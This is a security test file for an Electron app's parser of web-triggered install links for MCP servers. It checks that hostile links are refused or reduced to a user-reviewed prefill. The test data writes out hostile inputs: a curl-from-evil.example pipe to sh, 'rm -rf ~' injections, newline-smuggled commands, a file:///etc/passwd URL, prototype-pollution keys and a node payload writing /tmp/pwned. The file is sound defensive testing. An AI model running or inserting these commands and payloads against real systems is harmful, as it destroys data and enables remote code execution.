import { describe, expect, it } from 'vitest';
import { MAX_LINK_LENGTH, parseInstallLink } from '../../electron/core/install-links';
import { startTestCore, type TestCore } from '../helpers/core';
import { useCleanup } from '../helpers/cleanup';

// An install link is typed by nobody: any web page can open switchboard://…
// These are the things such a link tries. Each one is refused, or only ever
// becomes a prefill the user reviews; nothing is added or started.

const b64 = (text: string) => Buffer.from(text).toString('base64');
const ownLink = (name: string, json: string) => `switchboard://install?name=${encodeURIComponent(name)}&config=${encodeURIComponent(b64(json))}`;

describe('hostile install links', () => {
  let test: TestCore | undefined;
  const track = useCleanup();

  it('a link cannot smuggle a javascript: (or file:, data:) URL in as the server URL', () => {
    for (const url of [
      'javascript:alert(1)//',
      'file:///etc/passwd',
      'data:text/html,<script>1</script>',
      'http://attacker.example/mcp',
      'https://user:pw@mcp.example.com/',
    ]) {
      const result = parseInstallLink(ownLink('x', JSON.stringify({ url })));
      expect(result.ok, url).toBe(false);
      expect(!result.ok && result.reason).toMatch(/Refusing MCP server URL/);
    }
  });

  it('shell metacharacters in command and args stay literal argv entries', () => {
    const args = ['-y', 'pkg; rm -rf ~', '$(curl evil.example | sh)', '`id`', '&& calc.exe', '| tee /tmp/x', '\'quoted\' "double"'];
    const result = parseInstallLink(ownLink('x', JSON.stringify({ command: 'npx', args })));
    expect(result).toMatchObject({ ok: true, server: { transport: 'stdio', command: 'npx', args } });
  });

  it('a newline or control character in the command, a value or the name is refused, not passed on', () => {
    expect(parseInstallLink(ownLink('x', JSON.stringify({ command: 'node\nrm -rf ~' }))).ok).toBe(false);
    expect(parseInstallLink(ownLink('x', JSON.stringify({ command: 'node', env: { A: 'x\ny' } }))).ok).toBe(false);
    expect(parseInstallLink(ownLink('x', JSON.stringify({ command: 'node', args: ['a\n--inspect'] }))).ok).toBe(false);
    expect(parseInstallLink(ownLink('evil\u0007name', JSON.stringify({ command: 'node' }))).ok).toBe(false);
  });

  it('a huge link is refused before anything is decoded or parsed', () => {
    const link = ownLink('x', JSON.stringify({ command: 'node', args: ['a'.repeat(MAX_LINK_LENGTH)] }));
    const result = parseInstallLink(link);
    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('longer than 64 KB') });
    expect(parseInstallLink(`switchboard://install?name=x&config=${'A'.repeat(10 * MAX_LINK_LENGTH)}`).ok).toBe(false);
  });

  it('too many args or env entries are refused', () => {
    expect(parseInstallLink(ownLink('x', JSON.stringify({ command: 'node', args: Array.from({ length: 300 }, () => 'a') }))).ok).toBe(false);
    expect(
      parseInstallLink(ownLink('x', JSON.stringify({ command: 'node', env: Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`V${i}`, '1'])) }))).ok,
    ).toBe(false);
  });

  it('a __proto__ (or constructor/prototype) key refuses the link and pollutes nothing', () => {
    for (const json of [
      '{"command":"node","__proto__":{"polluted":"yes"}}',
      '{"command":"node","env":{"__proto__":{"polluted":"yes"}}}',
      '{"command":"node","constructor":{"prototype":{"polluted":"yes"}}}',
    ]) {
      const result = parseInstallLink(ownLink('x', json));
      expect(result.ok, json).toBe(false);
      expect(!result.ok && result.reason).toMatch(/"(__proto__|constructor|prototype)" key/);
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('secret values in a link are not prefilled: the user types them', () => {
    const result = parseInstallLink(
      ownLink(
        'x',
        JSON.stringify({
          url: 'https://mcp.example.com/mcp',
          headers: { Authorization: 'Bearer sk-live-abcdef', 'X-Api-Key': 'abc', 'X-Trace': 'Zx9qT4mLw8Rk2VbN7pYcQ3' },
        }),
      ),
    );
    expect(result).toMatchObject({ ok: true });
    const headers = result.ok && result.server.transport === 'http' ? result.server.headers : [];
    expect(headers.map((h) => [h.name, h.secret, h.value])).toEqual([
      ['Authorization', true, undefined],
      ['X-Api-Key', true, undefined],
      ['X-Trace', true, undefined],
    ]);
    expect(JSON.stringify(result)).not.toMatch(/sk-live|Zx9qT4/);
  });

  it('a link never adds or starts anything: after receive, the server list is unchanged and no process was spawned', async () => {
    test = track(startTestCore());
    const before = await test.call('listServers', {});
    test.core.installLinks.receive(
      ownLink('evil', JSON.stringify({ command: process.execPath, args: ['-e', 'require("fs").writeFileSync("/tmp/pwned","1")'] })),
    );
    test.core.installLinks.receive(`vscode:mcp/install?${encodeURIComponent(JSON.stringify({ name: 'remote', url: 'https://mcp.example.com/mcp' }))}`);
    await new Promise((r) => setTimeout(r, 200));
    expect(await test.call('listServers', {})).toEqual(before);
    expect(test.events.filter((e) => e.name !== 'installLinkReceived')).toEqual([]);
    expect((await test.call('takeInstallLink', {})).link).toMatchObject({ ok: true, server: { name: 'remote' } });
  });
});
